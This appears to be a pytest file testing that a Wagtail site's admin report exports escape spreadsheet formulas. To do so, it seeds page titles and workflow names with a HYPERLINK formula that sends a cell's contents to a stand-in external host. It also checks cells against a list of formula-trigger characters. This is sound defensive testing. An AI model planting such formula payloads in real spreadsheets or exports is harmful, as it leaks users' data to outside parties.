"""No spreadsheet that Wagtail's own screens make holds a cell that a spreadsheet program would run."""

import csv
import io

import openpyxl
import pytest
from django.urls import URLPattern, get_resolver
from django.utils import timezone
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log
from wagtail.models import Page, Task, Workflow, WorkflowTask

from tests import factories
from tests.site.campaign.asking import page_at

pytestmark = pytest.mark.django_db
HOSTILE = """=HYPERLINK("https://elsewhere.example/?"&A1)"""
NAME = "+mallory"
RUNS = tuple("=+-@\t\r\n")
# Those of Wagtail that have columns to export; a release that adds one is asked too.
REPORTS = ("locked", "workflow", "workflow_tasks", "site-history", "aging-pages")
KNOWN = {f"/admin/reports/{name}/" for name in REPORTS}


def exports():
    """Each address of the admin that can answer with a spreadsheet."""
    found = {f"/{route}" for route, view in _views(get_resolver().url_patterns, "") if _exports(view)}
    assert found > KNOWN
    return sorted(path for path in found if "<" not in path)


def _views(patterns, before):
    for pattern in patterns:
        route = before + str(pattern.pattern)
        if isinstance(pattern, URLPattern):
            yield route, pattern.callback
        else:
            yield from _views(pattern.url_patterns, route)


def _exports(view):
    while hasattr(view, "__wrapped__") and not hasattr(view, "view_class"):
        view = view.__wrapped__
    return issubclass(getattr(view, "view_class", object), SpreadsheetExportMixin)


@pytest.fixture
def admin():
    return factories.client_of(factories.person(NAME, is_superuser=True), unlocked=False)


@pytest.fixture(autouse=True)
def hostile(admin):
    """A page, its history, and a workflow with formulas for names, by somebody with one."""
    mallory = admin.get("/admin/").wsgi_request.user
    page = page_at("privacy")
    page.title = HOSTILE
    page.save_revision(user=mallory).publish(user=mallory)
    workflow = Workflow.objects.create(name=HOSTILE)
    WorkflowTask.objects.create(workflow=workflow, task=Task.objects.create(name=HOSTILE))
    workflow.start(page, mallory)
    now = timezone.now()
    Page.objects.filter(pk=page.pk).update(locked=True, locked_at=now, locked_by=mallory)
    log(page, "wagtail.edit", user=mallory)


def test_no_export_holds_a_formula(admin):
    for path, content in spreadsheets(admin, "csv"):
        assert_safe(path, [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row])
    for path, content in spreadsheets(admin, "xlsx"):
        cells = [cell for row in openpyxl.load_workbook(io.BytesIO(content)).active.rows for cell in row]
        assert [cell.value for cell in cells if cell.data_type == "f"] == [], path
        assert_safe(path, [str(cell.value) for cell in cells])


def spreadsheets(admin, kind):
    """What each address answers with as a file; a screen that this person may not see answers with none."""
    answers = {path: admin.get(path, {"export": kind}) for path in exports()}
    found = {path: answer for path, answer in answers.items() if "attachment" in answer.get("Content-Disposition", "")}
    assert set(found) >= KNOWN
    return [(path, b"".join(answer)) for path, answer in found.items()]


def assert_safe(path, cells):
    assert [cell for cell in cells if cell.startswith(RUNS)] == [], path
    # Otherwise nothing hostile was looked at.
    assert path not in KNOWN or f"'{HOSTILE}" in cells, path
    assert "reports/locked/" not in path or f"'{NAME}" in cells, path
